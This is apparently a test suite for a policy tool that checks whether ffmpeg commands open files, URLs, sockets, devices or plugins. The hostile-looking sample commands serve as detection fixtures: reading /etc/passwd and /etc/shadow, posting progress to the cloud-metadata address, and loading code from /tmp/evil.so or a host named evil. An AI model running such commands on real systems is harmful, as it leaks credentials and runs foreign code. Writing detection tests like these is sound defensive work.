// Every route in the reference's table "Everything that opens a file or url besides -i
// and the output urls", shown through `ffpolicy inspect --json`: the access it causes
// (read, write, load-code, bind, device), the server it starts, or the protection it
// switches off.

import { describe, expect, it } from "vitest";
import { inspectJson, type InspectResult } from "./inspect-helper.js";

interface Route {
  readonly command: string;
  readonly catalogue?: string;
  /** Accesses that must be listed (kind and target). */
  readonly opens?: readonly (readonly [string, string])[];
  readonly serves?: readonly string[];
  readonly protections?: readonly string[];
  readonly pending?: boolean;
  /** A fragment of a warning that must be present (the command is denied for it). */
  readonly warns?: string;
}

const ROUTES: Readonly<Record<string, Route>> = {
  "-/opt FILE (7.x)": {
    catalogue: "7.1",
    command: "ffmpeg -i in.mp4 -/filter_complex graph.txt out.mp4",
    opens: [["read", "graph.txt"]],
    warns: "cannot be checked",
  },
  "/key=FILE in a filter (7.x)": {
    catalogue: "7.1",
    command: "ffmpeg -i in.mp4 -vf drawtext=/textfile=secret.txt out.mp4",
    opens: [["read", "secret.txt"]],
    warns: "cannot be checked",
  },
  "-filter_script": { command: "ffmpeg -i in.mp4 -filter_script:v graph.txt out.mp4", opens: [["read", "graph.txt"]], warns: "cannot be checked" },
  "-filter_complex_script": {
    command: "ffmpeg -i in.mp4 -filter_complex_script graph.txt out.mp4",
    opens: [["read", "graph.txt"]],
    warns: "cannot be checked",
  },
  "-fpre": { command: "ffmpeg -i in.mp4 -c:v libx264 -fpre my.ffpreset out.mp4", opens: [["read", "my.ffpreset"]], warns: "preset" },
  "-vpre": { command: "ffmpeg -i in.mp4 -c:v libx264 -vpre fast out.mp4", opens: [["read", "$HOME/.ffmpeg/*-fast.ffpreset"]], warns: "preset" },
  "-attach": { command: "ffmpeg -i in.mkv -attach /etc/passwd -metadata:s:t mimetype=text/plain out.mkv", opens: [["read", "/etc/passwd"]] },
  "-dump_attachment NAME": { command: "ffmpeg -dump_attachment:t font.ttf -i in.mkv -f null -", opens: [["write", "font.ttf"]] },
  '-dump_attachment ""': { command: "ffmpeg -dump_attachment:t '' -i in.mkv -f null -", warns: "chosen by the input's content" },
  "-progress": { command: "ffmpeg -progress http://169.254.169.254/x -i in.mp4 out.mp4", opens: [["write", "http://169.254.169.254/x"]] },
  "-stats_enc_pre (7.x)": { catalogue: "7.1", command: "ffmpeg -i in.mp4 -stats_enc_pre stats.log out.mp4", opens: [["write", "stats.log"]] },
  "-passlogfile": { command: "ffmpeg -i in.mp4 -c:v libx264 -b:v 1M -pass 1 -passlogfile /tmp/x -f null -", opens: [["write", "/tmp/x-*.log"]] },
  "-vstats": { command: "ffmpeg -vstats -i in.mp4 out.mp4", opens: [["write", "vstats_HHMMSS.log"]] },
  "-vstats_file": { command: "ffmpeg -vstats_file /tmp/v.log -i in.mp4 out.mp4", opens: [["write", "/tmp/v.log"]] },
  "-sdp_file": { command: "ffmpeg -re -i in.mp4 -sdp_file /tmp/s.sdp -f rtp rtp://10.0.0.1:5004", opens: [["write", "/tmp/s.sdp"]] },
  "-report": { command: "ffmpeg -report -i in.mp4 out.mp4", opens: [["write", "ffmpeg-YYYYMMDD-HHMMSS.log"]] },
  "-f tee": {
    command: "ffmpeg -i in.mp4 -c copy -map 0 -f tee '[f=flv:onfail=ignore]rtmp://a.example/live/k|[f=mpegts]udp://10.0.0.2:1234' ",
    opens: [
      ["write", "rtmp://a.example/live/k"],
      ["write", "udp://10.0.0.2:1234"],
    ],
  },
  "tee: protocol": {
    command: "ffmpeg -i in.mp4 -f mpegts 'tee:/tmp/a.ts|/etc/b.ts'",
    opens: [
      ["write", "/tmp/a.ts"],
      ["write", "/etc/b.ts"],
    ],
  },
  "-f hls segments and playlists": {
    command: "ffmpeg -i in.mp4 -f hls -hls_segment_filename /srv/hls/seg_%03d.ts -master_pl_name master.m3u8 /srv/hls/index.m3u8",
    opens: [
      ["write", "/srv/hls/index.m3u8"],
      ["write", "/srv/hls/seg_%03d.ts"],
      ["write", "/srv/hls/master.m3u8"],
    ],
  },
  "-f hls default segment names": { command: "ffmpeg -i in.mp4 -f hls /srv/hls/index.m3u8", opens: [["write", "/srv/hls/index%d.ts"]] },
  "-hls_key_info_file": { command: "ffmpeg -i in.mp4 -f hls -hls_key_info_file /srv/keys/info /srv/hls/index.m3u8", opens: [["read", "/srv/keys/info"]] },
  "-f segment with a list": {
    command: "ffmpeg -i in.mp4 -f segment -segment_list /srv/list.csv /srv/out%03d.ts",
    opens: [
      ["write", "/srv/out%03d.ts"],
      ["write", "/srv/list.csv"],
    ],
  },
  "-f dash": {
    command: "ffmpeg -i in.mp4 -f dash /srv/dash/manifest.mpd",
    opens: [
      ["write", "/srv/dash/manifest.mpd"],
      ["write", "/srv/dash/chunk-stream$RepresentationID$-$Number%05d$.$ext$"],
    ],
  },
  "-f image2 output": { command: "ffmpeg -i in.mp4 -vf fps=1 /srv/thumbs/%04d.png", opens: [["write", "/srv/thumbs/%04d.png"]] },
  "image2 -pattern_type glob": { command: "ffmpeg -f image2 -pattern_type glob -i '/mnt/in/*.png' out.mp4", opens: [["read", "/mnt/in/*.png"]] },
  "image2 glob with braces": { command: "ffmpeg -f image2 -pattern_type glob -i '/mnt/in/{a,../../etc/x}.png' out.mp4", warns: "braces and '..'" },
  "x264-params stats and dump-yuv": {
    command: "ffmpeg -i in.mp4 -c:v libx264 -x264-params stats=/tmp/s.log:dump-yuv=/tmp/y.yuv out.mp4",
    opens: [
      ["write", "/tmp/s.log"],
      ["write", "/tmp/y.yuv"],
    ],
  },
  "x264-params cqmfile": { command: "ffmpeg -i in.mp4 -c:v libx264 -x264-params cqmfile=/etc/passwd out.mp4", opens: [["read", "/etc/passwd"]] },
  "x265-params csv and analysis": {
    command: "ffmpeg -i in.mp4 -c:v libx265 -x265-params csv=/tmp/c.csv:analysis-load=/tmp/a.dat out.mp4",
    opens: [
      ["write", "/tmp/c.csv"],
      ["read", "/tmp/a.dat"],
    ],
  },
  "-f lavfi input with movie": { command: "ffmpeg -f lavfi -i movie=/etc/passwd -f null -", opens: [["read", "/etc/passwd"]] },
  "movie in -vf": { command: "ffmpeg -i in.mp4 -vf 'movie=/secret/logo.png[l];[in][l]overlay' out.mp4", opens: [["read", "/secret/logo.png"]] },
  "amovie in -filter_complex": {
    command: "ffmpeg -i in.mp4 -filter_complex \"amovie='http\\://10.0.0.1/a.wav'[a]\" -map '[a]' out.mp3",
    opens: [["read", "http://10.0.0.1/a.wav"]],
  },
  "subtitles filter": { command: "ffmpeg -i in.mp4 -vf subtitles=/secret/subs.srt out.mp4", opens: [["read", "/secret/subs.srt"]] },
  "drawtext textfile and fontfile": {
    command: "ffmpeg -i in.mp4 -vf drawtext=fontfile=/f.ttf:textfile=/etc/hostname out.mp4",
    opens: [
      ["read", "/f.ttf"],
      ["read", "/etc/hostname"],
    ],
  },
  "lut3d file": { command: "ffmpeg -i in.mp4 -vf lut3d=file=/luts/a.cube out.mp4", opens: [["read", "/luts/a.cube"]] },
  "sendcmd file": { command: "ffmpeg -i in.mp4 -vf sendcmd=f=/tmp/cmds.txt,drawtext=text=x out.mp4", opens: [["read", "/tmp/cmds.txt"]] },
  "arnndn model": { command: "ffmpeg -i in.wav -af arnndn=m=/models/rnn.rnnn out.wav", opens: [["read", "/models/rnn.rnnn"]] },
  "psnr stats_file": { command: "ffmpeg -i a.mp4 -i b.mp4 -lavfi psnr=stats_file=/tmp/psnr.log -f null -", opens: [["write", "/tmp/psnr.log"]] },
  "ssim stats_file": { command: "ffmpeg -i a.mp4 -i b.mp4 -lavfi ssim=f=/tmp/ssim.log -f null -", opens: [["write", "/tmp/ssim.log"]] },
  "metadata file": { command: "ffmpeg -i in.mp4 -vf metadata=mode=print:file=/tmp/m.txt -f null -", opens: [["write", "/tmp/m.txt"]] },
  "vidstabdetect result": { command: "ffmpeg -i in.mp4 -vf vidstabdetect=result=/tmp/t.trf -f null -", opens: [["write", "/tmp/t.trf"]] },
  "signature filename": {
    command: "ffmpeg -i a.mp4 -i b.mp4 -filter_complex signature=filename=/tmp/sig%d.bin:nb_inputs=2 -f null -",
    opens: [["write", "/tmp/sig%d.bin"]],
  },
  "zmq binds a socket": { command: "ffmpeg -i in.mp4 -vf zmq,drawtext=text=x out.mp4", opens: [["bind", "tcp://*:5555"]] },
  "azmq with an address": { command: "ffmpeg -i in.wav -af \"azmq=bind_address='tcp\\://0.0.0.0\\:6000'\" out.wav", opens: [["bind", "tcp://0.0.0.0:6000"]] },
  "frei0r loads code": { command: "ffmpeg -i in.mp4 -vf frei0r=filter_name=/tmp/evil.so out.mp4", opens: [["load-code", "/tmp/evil.so"]] },
  "ladspa loads code": { command: "ffmpeg -i in.wav -af ladspa=file=/tmp/evil.so:plugin=x out.wav", opens: [["load-code", "/tmp/evil.so"]] },
  "lv2 loads code": { command: "ffmpeg -i in.wav -af \"lv2=plugin='http\\://evil/plugin'\" out.wav", opens: [["load-code", "http://evil/plugin"]] },
  "capture device v4l2": { command: "ffmpeg -f v4l2 -i /dev/video0 out.mp4", opens: [["device", "v4l2"]] },
  "capture device pulse": { command: "ffmpeg -f pulse -i default out.wav", opens: [["device", "pulse"]] },
  "capture device x11grab": { command: "ffmpeg -f x11grab -i :0.0 out.mp4", opens: [["device", "x11grab"]] },
  "capture device alsa": { command: "ffmpeg -f alsa -i hw:0 out.wav", opens: [["device", "alsa"]] },
  "output device sdl": { command: "ffmpeg -i in.mp4 -f sdl title", opens: [["device", "sdl"]] },
  "-init_hw_device": { command: "ffmpeg -init_hw_device vaapi=va:/dev/dri/renderD128 -i in.mp4 out.mp4", opens: [["device", "vaapi"]] },
  "-vaapi_device": { command: "ffmpeg -vaapi_device /dev/dri/renderD128 -i in.mp4 -c:v h264_vaapi out.mp4", opens: [["device", "vaapi"]] },
  "-hwaccel": { command: "ffmpeg -hwaccel cuda -i in.mp4 out.mp4", opens: [["device", "cuda"]] },
  "-rtmp_app redirects": { command: "ffmpeg -i in.mp4 -c copy -rtmp_app other -f flv rtmp://live.example.com/app/key", serves: [] },
  "-listen 1 serves": { command: "ffmpeg -listen 1 -i rtmp://0.0.0.0:1935/live/x out.mp4", serves: ["rtmp://0.0.0.0:1935/live/x"] },
  "srt mode=listener serves": { command: "ffmpeg -i 'srt://0.0.0.0:9000?mode=listener' out.ts", serves: ["srt://0.0.0.0:9000?mode=listener"] },
  "-f concat list": { command: "ffmpeg -f concat -safe 0 -i list.txt -c copy out.mp4", opens: [["read", "list.txt"]], protections: ["safe"], pending: true },
  "concat: protocol": {
    command: "ffmpeg -i 'concat:/mnt/a.ts|/etc/shadow' -c copy out.ts",
    opens: [
      ["read", "/mnt/a.ts"],
      ["read", "/etc/shadow"],
    ],
  },
  "subfile: protocol": { command: "ffmpeg -i subfile,,start,0,end,100,,:/etc/passwd out.mp4", opens: [["read", "/etc/passwd"]] },
  "crypto+ protocol": { command: "ffmpeg -i crypto+http://10.0.0.9/a.enc out.mp4", opens: [["read", "http://10.0.0.9/a.enc"]] },
  "HLS playlist input": { command: "ffmpeg -i /mnt/in/list.m3u8 -c copy out.mp4", opens: [["read", "/mnt/in/list.m3u8"]], pending: true },
  "-protocol_whitelist widened": { command: "ffmpeg -protocol_whitelist file,http,tcp -i in.m3u8 out.mp4", protections: ["protocol_whitelist"] },
  "-allowed_extensions": { command: "ffmpeg -allowed_extensions ALL -i in.m3u8 out.mp4", protections: ["allowed_extensions"] },
};

function hasAccess(result: InspectResult, kind: string, target: string): boolean {
  return result.job.accesses.some((a) => a.kind === kind && a.target === target);
}

describe("side channels in inspect --json", () => {
  it.each(Object.entries(ROUTES))("%s", async (_name, route) => {
    const result = await inspectJson(route.command, route.catalogue);
    for (const [kind, target] of route.opens ?? []) {
      expect(hasAccess(result, kind, target), `${kind} ${target} in ${JSON.stringify(result.job.accesses.map((a) => [a.kind, a.target]))}`).toBe(true);
    }
    for (const url of route.serves ?? []) expect(result.job.endpoints.some((e) => e.server && e.url.raw === url)).toBe(true);
    for (const option of route.protections ?? []) expect(result.job.protections.map((p) => p.option)).toContain(option);
    if (route.pending !== undefined) expect(result.job.pending.length > 0).toBe(route.pending);
    if (route.warns !== undefined) expect(result.warnings.join("\n")).toContain(route.warns);
  });

  it("follows -rtmp_app to the stream really published", async () => {
    const result = await inspectJson("ffmpeg -i in.mp4 -c copy -rtmp_app other -f flv rtmp://live.example.com/app/key");
    expect(result.job.endpoints.map((e) => e.url.raw)).toEqual(["rtmp://live.example.com/app/key", "rtmp://live.example.com/other/key"]);
  });

  it("adds the proxy of -http_proxy and the tcUrl of -rtmp_tcurl as destinations", async () => {
    const proxy = await inspectJson("ffmpeg -http_proxy http://10.0.0.5:3128 -i http://media.example.com/a.mp4 out.mp4");
    expect(proxy.job.endpoints.map((e) => e.url.host)).toEqual(["media.example.com", "10.0.0.5"]);
    const tcurl = await inspectJson("ffmpeg -i in.mp4 -c copy -rtmp_tcurl rtmp://evil.example/app -f flv rtmp://live.example.com/app/key");
    expect(tcurl.job.endpoints.map((e) => e.url.host)).toEqual(["live.example.com", "evil.example"]);
  });
});
